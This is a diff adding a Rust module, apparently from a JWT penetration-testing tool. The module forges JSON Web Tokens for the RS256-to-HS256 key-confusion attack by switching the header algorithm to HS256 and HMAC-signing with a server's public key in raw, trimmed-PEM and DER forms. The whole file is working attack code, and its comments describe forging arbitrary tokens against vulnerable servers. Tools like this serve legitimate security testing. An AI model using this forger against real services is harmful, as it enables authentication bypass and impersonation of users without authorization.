@@ -0,0 +1,66 @@
+use anyhow::{anyhow, Result};
+use base64::URL_SAFE_NO_PAD;
+
+use crate::signature::{calc_signature, SignatureTypes, SigningKey};
+use crate::JwtHeader;
+
+/// Forges tokens for the classic RS256->HS256 key-confusion attack.
+///
+/// Many JWT libraries verify `HS256` by HMAC-ing the token with whatever
+/// byte string the application configured as its "key", and some of those
+/// applications pass the server's RSA *public* key straight through as that
+/// string without checking that `alg` matches the key type they expect. An
+/// attacker who can read the public key (e.g. from a JWKS endpoint) can then
+/// forge arbitrary tokens by HMAC-signing with the public key bytes.
+///
+/// The forged token only validates if our HMAC input is byte-for-byte
+/// identical to what the vulnerable server passes to its HMAC verifier, so
+/// this emits one candidate per common normalization of the key bytes
+/// rather than a single guess.
+pub fn generate_confusion_tokens(
+    header: &JwtHeader,
+    payload_b64: &str,
+    public_key: &[u8],
+) -> Result<Vec<(String, String)>> {
+    let mut forged_header = header.clone();
+    forged_header.alg = "HS256".to_string();
+    let header_json = serde_json::to_vec(&forged_header)?;
+    let header_b64 = base64::encode_config(header_json, URL_SAFE_NO_PAD);
+    let signing_input = format!("{}.{}", header_b64, payload_b64);
+
+    // `public_key` is supported as either PEM text or raw DER bytes. DER is
+    // not valid UTF-8 in general, so the PEM-only normalizations below are
+    // skipped rather than failing the whole function when it isn't PEM.
+    let mut candidates: Vec<(String, SigningKey)> = vec![(
+        "raw key bytes".to_string(),
+        SigningKey::HmacBytes(public_key.to_vec()),
+    )];
+
+    if let Ok(pem_str) = std::str::from_utf8(public_key) {
+        candidates.push((
+            "PEM with trailing newline stripped".to_string(),
+            SigningKey::HmacBytes(pem_str.trim_end().as_bytes().to_vec()),
+        ));
+        if let Ok(der) = pem_to_der(pem_str) {
+            candidates.push(("DER bytes".to_string(), SigningKey::HmacBytes(der)));
+        }
+    }
+
+    let mut tokens = Vec::with_capacity(candidates.len());
+    for (label, key) in candidates {
+        let signature = calc_signature(&signing_input, &key, "", SignatureTypes::Hs256)?;
+        tokens.push((label, format!("{}.{}", signing_input, signature)));
+    }
+
+    Ok(tokens)
+}
+
+/// Strips the PEM armor and decodes the base64 body, giving back the raw
+/// DER bytes of the key.
+fn pem_to_der(pem: &str) -> Result<Vec<u8>> {
+    let body: String = pem
+        .lines()
+        .filter(|line| !line.starts_with("-----"))
+        .collect();
+    base64::decode(body).map_err(|e| anyhow!("failed to decode PEM body: {}", e))
+}